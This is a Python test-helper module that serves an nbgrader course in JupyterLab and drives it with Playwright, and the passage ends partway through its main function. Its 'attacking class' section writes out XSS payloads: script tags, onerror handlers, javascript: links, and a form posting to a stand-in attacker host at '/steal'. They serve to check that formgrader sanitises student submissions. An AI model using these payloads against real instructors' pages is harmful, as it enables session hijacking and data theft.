"""JupyterLab in a real browser: the course served as `make lab` serves it, driven by
Playwright (sync API) through Debian's chromium, for tests/test_browser.py and
`make screenshots` (``python -m tests.lab docs/screenshots``).

No browser is downloaded: Playwright launches the system chromium at ``CHROMIUM``
(``apt-get install chromium``; `.ci/run` installs it). Sources: Playwright for Python,
https://playwright.dev/python/docs/api/class-browsertype (``executable_path``,
``launch_persistent_context``); JupyterLab 4's DOM classes (``jp-Cell``,
``jp-RenderedMarkdown``, ``jp-RenderedImage``) and ``LabApp.expose_app_in_browser``, the
hook JupyterLab's own Playwright tests (Galata) use; nbgrader 0.9.6's lab extension for
the Validate button and its "Validation Results" dialog.

For issue 21 it also builds a small attacking class (``attacking_class``), serves a
grading workspace to formgrader (``serve_workspace``) and opens a page while recording
its dialogs, console, requests and script-set globals, with everything off this machine
blocked (``visit_page``: Playwright's ``page.route`` and ``page.on``).
"""
from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator

import nbformat

from grader import course

CHROMIUM = Path("/usr/bin/chromium")
LEARNER_CONFIG = course.ROOT / "lab"  # the learner's Jupyter configuration, as `make lab` uses it
# Headless as root, and nothing that reaches for the network: without the networking
# flags the closed network refuses chromium's own connections and slows every page.
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]
VIEWPORT = {"width": 1280, "height": 900}
STARTUP_SECONDS = 120
SOLUTION_MARKERS = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n?", re.MULTILINE)
MARKDOWN_IMAGE = re.compile(r"!\[[^\]]*\]\([^)]+\)|<img\b", re.IGNORECASE)


class BrowserMissing(RuntimeError):
    """Debian's chromium is not installed where the browser tests look for it."""


def chromium() -> Path:
    """The system chromium.

    Raises:
        BrowserMissing: it is not at ``CHROMIUM``; the message says how to install it.
    """
    if not os.access(CHROMIUM, os.X_OK):
        raise BrowserMissing(f"chromium is missing at {CHROMIUM}: run `apt-get install chromium` "
                             "(.ci/run does it when run as root); the browser tests never download one")
    return CHROMIUM


# ---------------------------------------------------------------------------- the course

def filled_in(student: nbformat.NotebookNode, solution: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The student notebook with every answer cell written as the solution has it: what a
    learner who got everything right hands in. Cells are matched by nbgrader grade_id."""
    answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in solution.cells
               if c.metadata.get("nbgrader", {}).get("solution")}
    filled = nbformat.from_dict(json.loads(json.dumps(student)))
    for cell in filled.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            cell.source = SOLUTION_MARKERS.sub("", answers[meta["grade_id"]])
    return filled


def notebook_paths(assignment_id: str) -> dict[str, str]:
    """Where the served copy keeps one assignment's notebooks, relative to the lab's root:
    ``student`` (as released), ``solution`` (the instructor's source) and ``filled``
    (the student version answered with the solutions)."""
    name = course.notebook_names(assignment_id)[0]
    return {"student": f"{assignment_id}/{name}.ipynb",
            "solution": f"solutions/{assignment_id}/{name}.ipynb",
            "filled": f"filled/{assignment_id}/{name}.ipynb"}


def copy_course(dest: Path) -> Path:
    """A copy of the course laid out as `make lab` serves it: ``dest`` holds
    nbgrader_config.py (the Validate button reads it from the server's working folder) and
    ``notebooks/``, the lab's root, with the solution and filled-in notebooks of every
    assignment beside the student ones. Returns the lab's root."""
    shutil.copy2(course.CONFIG_FILE, dest / course.CONFIG_FILE.name)
    root = dest / "notebooks"
    shutil.copytree(course.NOTEBOOKS, root)
    for assignment_id in course.assignments():
        paths = notebook_paths(assignment_id)
        solution = course.SOLUTIONS / assignment_id / Path(paths["solution"]).name
        (root / paths["solution"]).parent.mkdir(parents=True)
        shutil.copy2(solution, root / paths["solution"])
        (root / paths["filled"]).parent.mkdir(parents=True)
        nbformat.write(filled_in(nbformat.read(root / paths["student"], as_version=4),
                                 nbformat.read(solution, as_version=4)), root / paths["filled"])
    return root


# ---------------------------------------------------------------------------- the server

@dataclass
class Lab:
    """A running JupyterLab: its address, token and root folder."""
    url: str
    token: str
    root: Path
    log: Path

    def log_tail(self, lines: int = 30) -> str:
        return "\n".join(self.log.read_text(errors="replace").splitlines()[-lines:])


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@contextlib.contextmanager
def serve(workdir: Path, quick: bool = True, learner: bool = False) -> Iterator[Lab]:
    """JupyterLab 4 with nbgrader's extensions on a free loopback port, serving
    ``copy_course(workdir)``; stopped on exit.

    ``quick`` sets NBGRADER_EXECUTION=1 for its kernels, as nbgrader does while grading,
    so that the training notebooks train briefly. ``learner`` serves it in the learner's
    configuration, as `make lab` does (``LEARNER_CONFIG`` on JUPYTER_CONFIG_PATH: nbgrader's
    instructor screens off). Jupyter's user folders point into ``workdir``: nothing of the
    user's own settings or workspaces is read or written.

    Raises:
        RuntimeError: the server did not answer within STARTUP_SECONDS; its log is in the message.
    """
    root = copy_course(workdir)
    with _server(workdir, app="lab", cwd=workdir, root=root, quick=quick,
                 extra=["--LabApp.expose_app_in_browser=True"],  # window.jupyterapp
                 config_path=LEARNER_CONFIG if learner else None) as lab:
        yield lab


@contextlib.contextmanager
def serve_workspace(course_dir: Path, workdir: Path) -> Iterator[Lab]:
    """A Jupyter server for formgrader on a grading workspace, as its README says
    (``jupyter lab`` in ``out/course``): started in ``course_dir``, where the grader
    left nbgrader_config.py, with the server's root the folder above it (formgrader
    needs the course root under the server root). The server imports ``grader`` from
    this checkout (PYTHONPATH), as an installed course would: the sanitizing filters of
    nbgrader_config.py are what formgrader's HTMLExporter runs. Stopped on exit.

    Raises:
        RuntimeError: the server did not answer within STARTUP_SECONDS.
    """
    with _server(workdir, app="server", cwd=course_dir, root=course_dir.parent, quick=True,
                 extra=[], pythonpath=course.ROOT) as lab:
        yield lab


@contextlib.contextmanager
def _server(workdir: Path, app: str, cwd: Path, root: Path, quick: bool, extra: list[str],
            pythonpath: Path | None = None, base_url: str = "/", config_path: Path | None = None) -> Iterator[Lab]:
    token = secrets.token_hex(16)
    port = _free_port()
    settings = workdir / "lab-settings"
    # Never ask to fetch Jupyter's news feed: the popup would sit over the notebook.
    (settings / "@jupyterlab" / "apputils-extension").mkdir(parents=True, exist_ok=True)
    (settings / "@jupyterlab" / "apputils-extension" / "notification.jupyterlab-settings").write_text(
        json.dumps({"fetchNews": "false"}))
    env = dict(os.environ,
               # kernels start as "python3" from PATH: this environment's, as in `make lab`
               PATH=os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", ""),
               JUPYTER_CONFIG_DIR=str(workdir / "jupyter-config"),
               JUPYTER_RUNTIME_DIR=str(workdir / "jupyter-runtime"),
               JUPYTERLAB_SETTINGS_DIR=str(settings),
               JUPYTERLAB_WORKSPACES_DIR=str(workdir / "lab-workspaces"))
    if quick:
        env["NBGRADER_EXECUTION"] = "1"
    if config_path:
        env["JUPYTER_CONFIG_PATH"] = str(config_path)
    if pythonpath:
        env["PYTHONPATH"] = str(pythonpath) + os.pathsep + os.environ.get("PYTHONPATH", "")
    log = workdir / f"jupyter{app}.log"
    command = [sys.executable, "-m", "jupyter", app, "--no-browser", "--allow-root",
               "--ServerApp.ip=127.0.0.1", f"--ServerApp.port={port}", "--ServerApp.port_retries=0",
               f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={root}",
               f"--ServerApp.base_url={base_url}", *extra]
    with open(log, "w") as out:
        server = subprocess.Popen(command, cwd=cwd, env=env, stdout=out, stderr=subprocess.STDOUT)
    lab = Lab(f"http://127.0.0.1:{port}{base_url.rstrip('/')}", token, root, log)
    try:
        deadline = time.monotonic() + STARTUP_SECONDS
        while True:
            try:
                urllib.request.urlopen(f"{lab.url}/api/status?token={token}", timeout=2).close()
                break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(f"Jupyter did not start on port {port}:\n{lab.log_tail()}") from None
                time.sleep(0.3)
        yield lab
    finally:
        server.terminate()
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()


# ---------------------------------------------------------------------------- the browser

@contextlib.contextmanager
def serve_folder(root: Path, workdir: Path, base_url: str = "/") -> Iterator[Lab]:
    """A plain Jupyter server (``jupyter server``, no Lab) on ``root`` at ``base_url``
    (``/user/<name>/`` is how JupyterHub serves a student), with this environment's
    server extensions, as a student's server shows their fetched feedback. Stopped on exit.

    Raises:
        RuntimeError: the server did not answer within STARTUP_SECONDS.
    """
    with _server(workdir, app="server", cwd=root, root=root, quick=False, extra=[], base_url=base_url) as lab:
        yield lab


def require_chromium() -> None:
    """Fail the calling test (never skip it) with the install command when chromium is missing."""
    import pytest

    try:
        chromium()
    except BrowserMissing as error:
        pytest.fail(str(error), pytrace=False)


def record_dialogs(page):
    """Dismiss every browser dialog of ``page`` and keep its message in ``page.dialogs``
    (``press_formgrader`` reports them); returns the page."""
    page.dialogs = []

    def dialog(d):
        page.dialogs.append(d.message)
        d.dismiss()

    page.on("dialog", dialog)
    return page


@contextlib.contextmanager
def browser(workdir: Path, args: list[str] = ()):
    """A Playwright browser context on the system chromium with a fresh profile in
    ``workdir`` and ``args`` after CHROMIUM_FLAGS; yields the context.

    Raises:
        BrowserMissing: chromium is not installed.
    """
    from playwright.sync_api import sync_playwright

    executable = chromium()
    with sync_playwright() as playwright:
        context = playwright.chromium.launch_persistent_context(
            str(workdir / "chromium-profile"), executable_path=str(executable), headless=True,
            args=[*CHROMIUM_FLAGS, *args], viewport=VIEWPORT)
        try:
            yield context
        finally:
            context.close()


@contextlib.contextmanager
def chromium_browser():
    """The system chromium launched once, for several users' contexts at a time
    (``browser.new_context(viewport=VIEWPORT)`` each: its own cookies); yields the browser.

    Raises:
        BrowserMissing: chromium is not installed.
    """
    from playwright.sync_api import sync_playwright

    executable = chromium()
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(executable), headless=True, args=CHROMIUM_FLAGS)
        try:
            yield launched
        finally:
            launched.close()


# Chromium's inspector holds the promise an evaluation awaits only weakly: a pending one
# that nothing else reaches can be collected, and Playwright then fails with "Resulting
# promise was garbage collected" (once in CI, opening a notebook). The wrapper keeps
# each pending promise reachable from window until it settles.
_KEEP = """async (arg) => {{
    const pending = ({source})(arg);
    const kept = (window.__coursePending ??= new Set());
    kept.add(pending);
    try {{ return await pending; }} finally {{ kept.delete(pending); }}
}}"""


def evaluate_async(page, source: str, arg=None):
    """``page.evaluate(source, arg)`` for a function that returns a promise, which is kept
    reachable until it settles (see ``_KEEP``)."""
    return page.evaluate(_KEEP.format(source=source), arg)


def open_lab(context, lab: Lab):
    """A page with JupyterLab loaded and ready."""
    page = context.new_page()
    page.goto(f"{lab.url}/lab?token={lab.token}")
    page.wait_for_function("() => window.jupyterapp && window.jupyterapp.shell", timeout=STARTUP_SECONDS * 1000)
    evaluate_async(page, "() => window.jupyterapp.restored")
    return page


def open_notebook(page, path: str, cells: int, kernel: bool = True, timeout: float = 60) -> None:
    """Open the notebook at ``path`` (relative to the lab's root) as the only tab, as a
    double click in the file browser does, and wait until all its ``cells`` are in the
    page (JupyterLab attaches cells as they scroll into view) and, with ``kernel``, until
    its kernel is ready. The tab it replaces is closed and its kernel shut down.

    Raises:
        AssertionError: the cells did not all appear within ``timeout`` seconds.
    """
    evaluate_async(page, """async ([path, kernel]) => {
        const app = window.jupyterapp;
        for (const w of Array.from(app.shell.widgets('main'))) {
            if (w.sessionContext) { w.sessionContext.shutdown(); }
            w.dispose();  // closed without the save prompt: the copies are throwaway
        }
        const widget = await app.commands.execute('docmanager:open', {path});
        await widget.context.ready;
        if (kernel) { await widget.sessionContext.ready; }
    }""", [path, kernel])
    deadline = time.monotonic() + timeout
    while (shown := evaluate_async(page, _SCROLL_THROUGH)) < cells:
        assert time.monotonic() < deadline, f"{path}: {shown} of its {cells} cells shown after {timeout:.0f} s"
        page.wait_for_timeout(200)


# JavaScript run in the page: scroll every cell of the open notebook into view (each
# renders its markdown and math once it has been in view); returns how many there are.
_SCROLL_THROUGH = """async () => {
    const panel = document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden)');
    const shown = panel ? panel.querySelectorAll('.jp-Notebook .jp-Cell') : [];
    for (const cell of shown) {
        cell.scrollIntoView();
        await new Promise(requestAnimationFrame);
    }
    return shown.length;
}"""


# JavaScript run in the page: per cell (in notebook order), what it shows.
_CELL_STATES = """() => {
    const panel = document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden)');
    return Array.from(panel.querySelectorAll('.jp-Notebook .jp-Cell')).map(cell => ({
        markdown: cell.classList.contains('jp-MarkdownCell'),
        rendered: Array.from(cell.querySelectorAll('.jp-RenderedMarkdown')).map(e => e.textContent.trim()).join(' '),
        math: cell.querySelectorAll('mjx-container').length,
        mathErrors: cell.querySelectorAll('mjx-merror').length,
        images: Array.from(cell.querySelectorAll('.jp-RenderedMarkdown img')).map(i => i.complete ? i.naturalWidth : 0),
        figures: Array.from(cell.querySelectorAll('.jp-OutputArea .jp-RenderedImage img')).map(i => i.complete ? i.naturalWidth : 0),
        prompt: (cell.querySelector('.jp-InputPrompt') || {textContent: ''}).textContent.trim(),
        errors: Array.from(cell.querySelectorAll('.jp-OutputArea-output[data-mime-type="application/vnd.jupyter.stderr"], .jp-OutputArea-output.jp-mod-error'))
                     .map(e => e.textContent.trim()),
    }));
}"""


def cell_states(page) -> list[dict]:
    """For each cell of the open notebook, in order: whether it is markdown, its rendered
    text, its typeset math (MathJax's ``mjx-container``) and math errors, the natural
    widths of its markdown images and output figures (0: not loaded), its input prompt
    and the text of its error or stderr outputs."""
    return page.evaluate(_CELL_STATES)


def rendering_problems(nb: nbformat.NotebookNode, states: list[dict]) -> list[str]:
    """What a reader of ``nb`` would see broken, compared with its source: markdown left
    unrendered, math not typeset or in error, images missing or not loaded."""
    problems = []
    if len(states) != len(nb.cells):
        return [f"{len(states)} cells shown, {len(nb.cells)} in the file"]
    for i, (cell, state) in enumerate(zip(nb.cells, states)):
        if cell.cell_type != "markdown" or not cell.source.strip():
            continue
        where = f"cell {i} ({cell.source.strip().splitlines()[0][:50]!r})"
        if not state["markdown"] or not state["rendered"]:
            problems.append(f"{where}: markdown not rendered")
        if "$" in cell.source and not state["math"]:
            problems.append(f"{where}: its math is not typeset")
        if state["mathErrors"]:
            problems.append(f"{where}: {state['mathErrors']} math error(s)")
        expected = len(MARKDOWN_IMAGE.findall(cell.source))
        if len(state["images"]) != expected or not all(state["images"]):
            problems.append(f"{where}: {expected} image(s) in the source, shown {state['images']} (natural widths)")
    return problems


def wait_rendered(page, nb: nbformat.NotebookNode, timeout: float = 30) -> list[str]:
    """Wait up to ``timeout`` seconds for the open notebook to render (MathJax typesets
    after the markdown appears); returns the problems left, empty when all is rendered."""
    deadline = time.monotonic() + timeout
    while True:
        problems = rendering_problems(nb, cell_states(page))
        if not problems or time.monotonic() > deadline:
            return problems
        if "cells shown" in problems[0]:  # JupyterLab attaches a cell once it has been in view
            evaluate_async(page, _SCROLL_THROUGH)
        page.wait_for_timeout(250)


def run_all(page, timeout: float) -> list[dict]:
    """Run all cells of the open notebook from the Run menu, as a learner does, and wait
    until every code cell has run or one has failed; returns ``cell_states``.

    Raises:
        AssertionError: the notebook was still running after ``timeout`` seconds.
    """
    page.locator(".lm-MenuBar-itemLabel", has_text=re.compile(r"^Run$")).click()
    page.locator(".lm-Menu-itemLabel", has_text=re.compile(r"^Run All Cells$")).click()
    deadline = time.monotonic() + timeout
    while True:
        states = cell_states(page)
        code = [s for s in states if not s["markdown"]]
        finished = all(re.fullmatch(r"\[\d+\]:", s["prompt"]) for s in code)
        if finished or any(s["errors"] for s in code):
            # the last figures decode a moment after their cell ends
            page.wait_for_timeout(500)
            return cell_states(page)
        assert time.monotonic() < deadline, (
            f"still running after {timeout:.0f} s; prompts: {[s['prompt'] for s in code]}")
        page.wait_for_timeout(500)


def run_problems(nb: nbformat.NotebookNode, states: list[dict]) -> list[str]:
    """What went wrong in a run of ``nb``: cells not run, error or stderr output, figure
    cells (grade_id with ``-fig``) without a loaded image, a notebook with no figure."""
    problems = []
    for i, (cell, state) in enumerate(zip(nb.cells, states)):
        if cell.cell_type != "code":
            continue
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        where = f"cell {i}" + (f" ({grade_id})" if grade_id else "")
        if not re.fullmatch(r"\[\d+\]:", state["prompt"]):
            problems.append(f"{where}: not run (prompt {state['prompt']!r})")
        for text in state["errors"]:
            problems.append(f"{where}: error output:\n{text[-1500:]}")
        if "-fig" in grade_id and not (state["figures"] and all(state["figures"])):
            problems.append(f"{where}: a figure cell shows no image (natural widths {state['figures']})")
        if any(w == 0 for w in state["figures"]):
            problems.append(f"{where}: an output image did not load")
    if not any(s["figures"] for s in states):
        problems.append("no figure appeared")
    return problems


def validate(page, shot: Path | None = None, timeout: float = 120) -> tuple[bool, str]:
    """Press nbgrader's Validate button on the open notebook and read the dialog:
    (passed, the dialog's text); a screenshot of the dialog goes to ``shot`` if given.
    The dialog is closed afterwards.

    Raises:
        AssertionError: no result dialog within ``timeout`` seconds, or nbgrader could not
            run the validation (its dialog says so; the text is in the message).
    """
    toolbar = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-NotebookPanel-toolbar")
    toolbar.get_by_role("button", name="Validate").click()
    message = page.locator(".jp-Dialog #validation-message")
    message.wait_for(timeout=timeout * 1000)
    text = message.inner_text()
    classes = message.get_attribute("class") or ""
    if shot:
        shot.parent.mkdir(parents=True, exist_ok=True)
        page.locator(".jp-Dialog-content").screenshot(path=str(shot))
    page.keyboard.press("Escape")
    assert "validation-success" in classes or "validation-failed" in classes, (
        f"the Validate dialog did not give a result:\n{text}")
    return "validation-success" in classes, text


def screenshot_notebook(page, path: Path) -> None:
    """The open notebook from its top, as a learner first sees it, to ``path``."""
    page.evaluate("""() => {
        const panel = document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden)');
        panel.querySelector('.jp-WindowedPanel-outer').scrollTop = 0;
    }""")
    page.wait_for_timeout(300)
    path.parent.mkdir(parents=True, exist_ok=True)
    page.locator(".jp-NotebookPanel:not(.lm-mod-hidden)").screenshot(path=str(path))


def screenshot_first_figure(page, path: Path) -> None:
    """The first figure of the open notebook, as the lab shows it, to ``path``."""
    figure = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea .jp-RenderedImage").first
    figure.scroll_into_view_if_needed()
    path.parent.mkdir(parents=True, exist_ok=True)
    figure.screenshot(path=str(path))


# ---------------------------------------------------------------------------- an attacking class

EVIL_HOST = "203.0.113.9"  # TEST-NET-3: nothing answers there; a request to it is a leak
# What a student's script would do with the instructor's page: mark it, raise a dialog,
# log, and call the Jupyter server's API with the instructor's session.
ATTACK_JS = ("window.__pwned = (window.__pwned || 0) + 1; alert('student script'); "
             "console.log('student script ran'); fetch('/api/contents').then("
             "r => { window.__api = r.status; console.log('api ' + r.status); })")


def attack_markdown() -> str:
    """A markdown cell with script in every form the review tried."""
    evil = f"http://{EVIL_HOST}"
    return "\n\n".join([
        "## Attacks (a security test; nothing here may run)",
        f"<script>{ATTACK_JS}</script>",
        f'<img src=x onerror="{ATTACK_JS}">',
        f'<svg onload="{ATTACK_JS}"><circle r="4"/></svg>',
        f'<iframe srcdoc="<script>parent.__pwned = 1; alert(1)</script>"></iframe>',
        f'<a id="js-link" href="javascript:{ATTACK_JS}">a javascript: link</a> [md link](javascript:alert(1))',
        f'<meta http-equiv="refresh" content="2;url={evil}/refresh">',
        f'<base href="{evil}/">',
        f'<form action="{evil}/steal"><input name="q" value="x"><button formaction="{evil}/b">go</button></form>',
        f"<style>@import url({evil}/a.css); body {{ background: url({evil}/b.png) }}</style>",
        f'<img src="{evil}/pixel.png"> ![pixel]({evil}/md.png) <object data="{evil}/o.swf"></object>',
        f'<img src="data:image/png;base64,iVBORw0KGgo=" srcset="{evil}/s.png 2x">',
        f'<details open ontoggle="{ATTACK_JS}">toggle</details>',
    ])


def attack_code() -> str:
    """A code cell whose outputs carry script: HTML, markdown, JavaScript, SVG, and
    image metadata the templates write into attributes (every literal by repr)."""
    payload = f'<img src=x onerror="{ATTACK_JS}"><script>{ATTACK_JS}</script>'
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{ATTACK_JS}">'
           '<rect width="20" height="20"/></svg>')
    displays = [
        ({"image/png": "not-a-png", "text/plain": "x"}, {"image/png": {"width": f'1 onerror="{ATTACK_JS}"'}}),
        ({"image/png": "iVBORw0KGgo=", "text/plain": "y"}, {"filenames": {"image/png": f"http://{EVIL_HOST}/f.png"}}),
        ({"text/html": "<b>isolated</b>" + payload}, {"text/html": {"isolated": True}}),
    ]
    return "\n".join([
        "from IPython.display import HTML, SVG, Javascript, Markdown, display",
        f"P = {payload!r}",
        "display(HTML(P))",
        "display(Markdown(P))",
        f"display(Javascript({ATTACK_JS!r}))",
        f"display(SVG({svg!r}))",
        *(f"display({data!r}, raw=True, metadata={meta!r})" for data, meta in displays),
    ])


def attacking_class(dest: Path, honest: str = "ada", attacker: str = "mallory") -> Path:
    """``dest/<student>/01_similarity/01_similarity.ipynb`` for two students: ``honest``
    hands in sample_class/ada's notebook as it is; ``attacker`` the same with an attack
    markdown cell, a cell of attacking outputs, and a ``dot_product`` that raises an
    exception whose message is script (it becomes the diagnosis). Returns ``dest``."""
    assignment = "01_similarity"
    source = course.SAMPLE_CLASS / "ada" / assignment / f"{assignment}.ipynb"
    for student in (honest, attacker):
        (dest / student / assignment).mkdir(parents=True, exist_ok=True)
    shutil.copy2(source, dest / honest / assignment / source.name)
    nb = nbformat.read(source, as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "similarity-dot_product":
            message = f'<img src=x onerror="{ATTACK_JS}"> $\\frac{{1}}{{$ [x](javascript:alert(1)) <script>{ATTACK_JS}</script>'
            cell.source = f"def dot_product(a, b):\n    raise ValueError({message!r})\n"
    nb.cells += [nbformat.v4.new_markdown_cell(attack_markdown()), nbformat.v4.new_code_cell(attack_code())]
    nbformat.write(nb, dest / attacker / assignment / source.name)
    return dest


@dataclass
class Visit:
    """What a page did while it was open: dialogs, console lines, every request, the
    requests to anywhere but this machine (all blocked), and the page's globals
    ``__pwned`` and ``__api`` (set by a student's script) afterwards."""
    url: str
    dialogs: list[str]
    console: list[str]
    requests: list[str]
    blocked: list[str]
    pwned: object
    api: object
    figures: list[int]  # natural widths of the page's embedded PNG images (0: not shown)
    images: list[int]  # natural widths of all its images
    text: str

    @property
    def ran(self) -> list[str]:
        """Signs that a student's script ran, empty when none did."""
        signs = [f"dialog {d!r}" for d in self.dialogs]
        signs += [f"console {c!r}" for c in self.console if "student script" in c or c.startswith("api ")]
        signs += [f"window.__pwned = {self.pwned!r}"] * (self.pwned is not None)
        signs += [f"the Jupyter API answered the student's script: {self.api!r}"] * (self.api is not None)
        return signs


def _local(url: str) -> bool:
    return url.startswith(("file:", "data:", "about:", "http://127.0.0.1:", "blob:"))


def visit_page(context, url: str, shot: Path | None = None, settle_ms: int = 2500) -> Visit:
    """Open ``url`` in a new page of ``context`` with every request recorded and every
    request off this machine blocked; wait ``settle_ms`` after load (a timed refresh,
    late scripts); screenshot the whole page to ``shot``. Dialogs are dismissed."""
    page = context.new_page()
    seen = {"dialogs": [], "console": [], "requests": [], "blocked": []}

    def dialog(d):
        seen["dialogs"].append(d.message)
        d.dismiss()

    def route(r):
        if _local(r.request.url):
            r.continue_()
        else:
            seen["blocked"].append(r.request.url)
            r.abort()

    page.on("dialog", dialog)
    page.on("console", lambda m: seen["console"].append(m.text))
    page.on("request", lambda r: seen["requests"].append(r.url))
    page.route("**/*", route)
    page.goto(url, wait_until="load")
    page.wait_for_timeout(settle_ms)
    state = page.evaluate("""() => ({
        pwned: window.__pwned === undefined ? null : window.__pwned,
        api: window.__api === undefined ? null : window.__api,
        figures: Array.from(document.querySelectorAll('img')).filter(i => i.src.startsWith('data:image/png'))
                      .map(i => i.complete ? i.naturalWidth : 0),
        images: Array.from(document.querySelectorAll('img')).map(i => i.complete ? i.naturalWidth : 0),
        text: document.body ? document.body.innerText : '',
    })""")
    if shot:
        shot.parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(shot), full_page=True)
    final = page.url
    page.close()
    return Visit(final, seen["dialogs"], seen["console"], seen["requests"], seen["blocked"],
                 state["pwned"], state["api"], state["figures"], state["images"], state["text"])


# ---------------------------------------------------------------------------- a tour

def render(page, lab: Lab, assignment_id: str, shots: Path) -> list[str]:
    """One assignment's student notebook opened as a learner first sees it (no kernel), its
    screenshot to ``shots/<id>.png``; returns what did not render (``rendering_problems``)."""
    paths = notebook_paths(assignment_id)
    student = nbformat.read(lab.root / paths["student"], as_version=4)
    open_notebook(page, paths["student"], len(student.cells), kernel=False)
    problems = wait_rendered(page, student)
    screenshot_notebook(page, shots / f"{assignment_id}.png")
    return problems


def run_solution(page, lab: Lab, assignment_id: str, shots: Path, run_seconds: float = 180) -> list[str]:
    """One assignment's solution notebook run from the Run menu, its first figure to
    ``shots/<id>-figure.png``; returns what went wrong (``run_problems``)."""
    paths = notebook_paths(assignment_id)
    solution = nbformat.read(lab.root / paths["solution"], as_version=4)
    open_notebook(page, paths["solution"], len(solution.cells))
    problems = run_problems(solution, run_all(page, run_seconds))
    if page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-RenderedImage img").count():
        screenshot_first_figure(page, shots / f"{assignment_id}-figure.png")
    return problems


def visit(page, lab: Lab, assignment_id: str, shots: Path, run_seconds: float = 180) -> dict[str, list[str]]:
    """What a learner meets in one assignment (`make screenshots`): its student notebook
    opened (``render``) and its solution notebook run (``run_solution``). Returns the
    problems seen, by step: ``render`` and ``run``; empty lists when all is well.
    """
    return {"render": render(page, lab, assignment_id, shots),
            "run": run_solution(page, lab, assignment_id, shots, run_seconds)}


def validate_both(page, lab: Lab, assignment_id: str, shots: Path) -> dict[str, tuple[bool, str]]:
    """nbgrader's Validate button pressed on the untouched student notebook and on the
    one filled in with the solutions: ``{"student": (passed, text), "filled": ...}``, the
    dialogs to ``shots/validate-<kind>.png``."""
    paths = notebook_paths(assignment_id)
    results = {}
    for kind in ("student", "filled"):
        nb = nbformat.read(lab.root / paths[kind], as_version=4)
        open_notebook(page, paths[kind], len(nb.cells))
        results[kind] = validate(page, shots / f"validate-{kind}.png")
    return results


# ---------------------------------------------------------------------------- formgrader

# formgrader 0.9.6 (server_extensions/formgrader/static/js/manage_submissions.js,
# manage_assignments.js, utils.js): one <tr> per row of #main-table, a <td> per column
# named by class, each button an <a href="#"> around a glyphicon; every result is a
# Bootstrap modal, #success-modal or #error-modal (the traceback in a "Traceback" panel).
FORMGRADER_ROWS = "#main-table tr"
FORMGRADER_RESULT = "#success-modal, #error-modal"
FORMGRADER_BUTTON_SECONDS = 240  # one press of a formgrader button: autograde runs the notebook in the server


def open_formgrader(page, server_url: str, path: str) -> None:
    """The formgrader page ``path`` of the Jupyter server at ``server_url``, once its table
    has been filled from formgrader's API."""
    page.goto(f"{server_url}/formgrader/{path}")
    page.wait_for_function("() => window.models && window.models.loaded === true", timeout=60_000)


def formgrader_rows(page) -> dict[str, dict[str, str]]:
    """Manage Submissions' table: student id -> column class -> the cell's text."""
    return page.evaluate("""(rows) => {
        const out = {};
        for (const tr of document.querySelectorAll(rows)) {
            const cells = {};
            for (const td of tr.querySelectorAll('td')) {
                cells[td.className.replace('text-center ', '')] = td.innerText.trim();
            }
            if (cells['student-id']) { out[cells['student-id']] = cells; }
        }
        return out;
    }""", FORMGRADER_ROWS)


def press_formgrader(page, button, what: str, log_tail=lambda: "", shot: Path | None = None) -> str:
    """Click a formgrader button and wait for its result modal; returns the modal's text
    after closing it (a screenshot of the modal to ``shot`` first, if given). ``log_tail()``
    gives the end of the server's log for the failure message; ``page.dialogs``, when the
    caller records the page's browser dialogs there, must stay empty.

    Raises:
        AssertionError: no result within FORMGRADER_BUTTON_SECONDS, or the result is
            formgrader's error modal (its whole text, nbgrader's traceback included, and
            the end of the server's log in the message).
    """
    button.click()
    modal = page.locator(FORMGRADER_RESULT)
    modal.wait_for(state="visible", timeout=FORMGRADER_BUTTON_SECONDS * 1000)
    text = modal.inner_text()
    failed = modal.get_attribute("id") == "error-modal"
    if shot:
        page.wait_for_timeout(500)  # Bootstrap's fade-in
        page.screenshot(path=str(shot))
    modal.locator("button.close", has_text="OK").click()
    modal.wait_for(state="detached", timeout=10_000)
    assert not failed, f"formgrader's {what} failed:\n{text}\n--- server log ---\n{log_tail()}"
    assert not getattr(page, "dialogs", []), page.dialogs
    return text


def main(argv: list[str] | None = None) -> int:
    """`make screenshots`: every notebook through ``visit`` and the Validate dialogs, to
    the folder given (docs/screenshots). The training notebooks train in full here."""
    args = argv if argv is not None else sys.argv[1:]
    if len(args) != 1:
        print("usage: python -m tests.lab FOLDER  (make screenshots: docs/screenshots)", file=sys.stderr)
        return 2
    shots = Path(args[0])
    for stale in shots.glob("*.png"):  # the folder holds only what this writes
        stale.unlink()
    failed = []
    with tempfile.TemporaryDirectory(prefix="lab-") as scratch:
        workdir = Path(scratch)
        try:
            with browser(workdir) as context, serve(workdir, quick=False) as lab:  # chromium first
                page = open_lab(context, lab)
                for assignment_id in course.assignments():
                    found = visit(page, lab, assignment_id, shots, run_seconds=600)
                    failed += [f"{assignment_id} {step}: {p}" for step, ps in found.items() for p in ps]
                    print(f"{assignment_id}: {'ok' if not any(found.values()) else 'PROBLEMS'}", flush=True)
                validate_both(page, lab, course.assignments()[0], shots)
